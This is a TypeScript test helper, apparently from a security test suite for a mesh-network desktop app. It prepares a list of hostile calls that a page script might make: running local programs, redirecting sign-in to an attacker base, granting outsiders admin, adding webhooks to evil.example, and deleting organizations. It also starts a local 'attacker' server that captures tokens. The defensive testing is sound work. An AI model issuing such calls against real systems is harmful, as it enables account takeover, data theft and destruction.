import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import fc from 'fast-check'
import type { Page } from 'playwright-core'
import type { CommandName } from '../../../contract/commands.ts'
import { flagNames } from '../../../contract/node.ts'
import { actionSchemes } from '../../../domain/devices/action-template.ts'
import { linkSchemes } from '../../../domain/devices/device-link.ts'
import { central } from '../account/demo-new-central.ts'
import { eventually } from './application.ts'
import { stranger } from './page-script.ts'

export type Call = readonly [name: CommandName, argument: unknown]
export type Replies = readonly {
  readonly ok: boolean
  readonly value?: unknown
  readonly error?: { readonly code: string }
}[]

/** Asks as a script of the page does, all at once. What is not answered within `wait` milliseconds is `late`. */
export function askAll(page: Page, all: readonly Call[], wait: number): Promise<Replies> {
  return page.evaluate(
    ([asked, wait]) => {
      const { meshtray } = globalThis as unknown as {
        meshtray: { invoke(name: string, argument: unknown): Promise<Replies[number]> }
      }
      const late = { ok: false, error: { code: 'late' } }
      return Promise.all(
        asked.map(([name, argument]) =>
          Promise.race([
            meshtray.invoke(name, argument === null ? undefined : JSON.parse(argument)).catch(() => late),
            new Promise<typeof late>((resolve) => setTimeout(resolve, wait, late)),
          ]),
        ),
      )
    },
    [
      all.map(
        ([name, argument]) => [name, argument === undefined ? null : JSON.stringify(argument)] as const,
      ),
      wait,
    ] as const,
  )
}

/** The right argument, with the example's ids and addresses turned into those of something that is there */
export function withIds(
  argument: unknown,
  network: string,
  way: { readonly node: string; readonly address: string },
) {
  if (argument === undefined) return undefined
  const text = JSON.stringify(argument)
    .replaceAll('8056c2e21c000001', network)
    .replaceAll('cafe04eba9', way.node)
    .replaceAll('10.147.17.2', way.address)
  return JSON.parse(text) as unknown
}

export function shuffled<T>(all: readonly T[], order: number): readonly T[] {
  return (
    fc.sample(fc.shuffledSubarray([...all], { minLength: all.length }), { numRuns: 1, seed: order })[0] ?? []
  )
}

export function pieces<T>(all: readonly T[], size: number): readonly (readonly T[])[] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, at) =>
    all.slice(at * size, (at + 1) * size),
  )
}

/** An attacker runs this service, and waits for a token to be sent to it. */
export type Attacker = Awaited<ReturnType<typeof startAttacker>>

export async function startAttacker() {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url} ${request.headers.authorization}`)
    response.end('{}')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    /** Method, path and authorization of each request */
    heard,
    close: () => server.close(),
  }
}

/** The ids and addresses of things that are there */
interface Targets {
  readonly ownActions: readonly string[]
  readonly way: { readonly node: string; readonly address: string }
  /** A program that writes down that it was started */
  readonly witness: string
  /** The address of a server that an attacker would choose */
  readonly base: string
  readonly invitations: readonly string[]
  readonly networks: readonly string[]
  readonly sets: readonly string[]
}

export const allFlags = { allowManaged: true, allowGlobal: true, allowDefault: true, allowDNS: true }

/** Returns calls against this computer and the account of a person. */
function ownAttacks(targets: Targets): readonly Call[] {
  const { ownActions, way, witness, base, invitations, networks, sets } = targets
  return [
    ...ownActions.map((id): Call => ['devices.runAction', { ...way, action: id, user: 'ada' }]),
    ['devices.runAction', { ...way, action: ownActions[0] ?? '', user: null, seen: [witness, '127.0.0.2'] }],
    ...linkSchemes.map((scheme): Call => ['devices.open', { ...way, scheme, user: null, port: 4444 }]),
    ['account.signIn', { token: 'x'.repeat(40), base }],
    ['preferences.set', { accountBase: base, startAtLogin: true }],
    ['preferences.set', { answerChecks: true }],
    ['account.addToken', { name: 'evil', token: 'y'.repeat(40) }],
    ['account.addToken', { name: 'evil', token: null }],
    ['account.invite', { email: 'mallory@evil.example' }],
    ...invitations.map((id): Call => ['account.acceptInvitation', { id }]),
    [
      'service.changeSettings',
      { changes: [{ key: 'allowManagementFrom', before: null, after: ['0.0.0.0/0'] }], agreed: true },
    ],
    ['service.writeLocalConf', { before: null, after: '{}' }],
    ['network.join', { id: stranger, flags: allFlags }],
    ['network.openLogin', { id: networks[0] }],
    ...networks.flatMap((id) =>
      flagNames.map((flag): Call => ['network.setFlag', { id, flag, value: true }]),
    ),
    ...sets.map((id): Call => ['sets.use', { id }]),
  ]
}

/** Returns calls that would let others into the organization of New Central for good, or delete it. */
function centralAttacks(account: string): readonly Call[] {
  const { lantern, events, guests } = central
  const organization = { account, organization: lantern }
  const scope = { level: 'network', id: guests }
  const grants = [{ principal: 'harbour@example.org', roles: ['NetworkAdmin'] }]
  const before = [{ principal: 'omar@example.com', roles: ['NetworkAdmin'] }]
  const key = { account, serviceAccount: 'desktop', expires: 4_102_444_800_000, description: '' }
  const url = 'https://evil.example/hook'
  return [
    ['access.add', { account, scope, grants }],
    ['access.replace', { account, scope, grants, before, confirm: 'guests' }],
    ['access.invite', { ...organization, emails: ['mallory@evil.example'] }],
    ['keys.create', key],
    ['keys.rotate', { ...key, key: 'desktop' }],
    ['webhooks.create', { ...organization, url, events: ['MEMBER_JOIN'], description: '' }],
    ['webhooks.save', { account, id: 'x', url }],
    ['organization.delete', { ...organization, confirm: 'Lantern Works' }],
    ['groups.delete', { account, group: events, confirm: 'Events' }],
  ]
}

type Read = <T>(name: CommandName, argument?: unknown) => Promise<T>

/** Makes what an attacker would misuse, and returns the calls that misuse it, with the ids of what is there. */
export async function prepareAttacks(
  read: Read,
  call: (one: Call) => Promise<unknown>,
  given: Pick<Targets, 'witness' | 'base' | 'networks'>,
): Promise<{
  readonly attacks: readonly Call[]
  /** The action that runs the witness */
  readonly ownAction: string
  readonly way: Targets['way']
}> {
  const { witness, networks } = given
  const program = { kind: 'program', program: witness, args: ['{address}'] }
  await call(['devices.saveAction', { id: null, name: 'x', template: program }])
  for (const scheme of actionSchemes) {
    const template = { kind: 'link', url: `${scheme}://evil.example/` }
    await call(['devices.saveAction', { id: null, name: scheme, template }])
  }
  const opened = { network: networks[1], name: 'x', state: 'connected', flags: allFlags }
  await call(['sets.save', { id: null, name: 'open', networks: [opened] }])
  const { preferences, sets, accounts } = await read<Seen>('snapshot.read')
  const ownActions = idsOf(preferences.ownActions)
  const device = await eventually(
    async () => (await read<Devices>('devices.read')).devices.find(hasOwnAddress),
    (found) => found !== undefined,
  )
  const way = { node: device?.node ?? '', address: ownAddress }
  const { items: invitations } = await read<{ readonly items: readonly Item[] }>('account.invitations')
  const central = accounts.accounts.find(({ kind }) => kind === 'new-central')?.id ?? ''
  const targets = { ...given, way, ownActions, invitations: idsOf(invitations), sets: idsOf(sets.sets) }
  return {
    attacks: [...ownAttacks(targets), ...centralAttacks(central)],
    ownAction: ownActions[0] ?? '',
    way,
  }
}

interface Item {
  readonly id: string
}
interface Seen {
  readonly preferences: { readonly ownActions: readonly Item[] }
  readonly sets: { readonly sets: readonly Item[] }
  readonly accounts: { readonly accounts: readonly (Item & { readonly kind: string })[] }
}
export interface Devices {
  readonly devices: readonly {
    readonly node: string
    readonly addresses: readonly { readonly address: string }[]
  }[]
}

const ownAddress = '127.0.0.2'

function hasOwnAddress({ addresses }: Devices['devices'][number]): boolean {
  return addresses.some(({ address }) => address === ownAddress)
}

function idsOf(items: readonly Item[]): readonly string[] {
  return items.map(({ id }) => id)
}
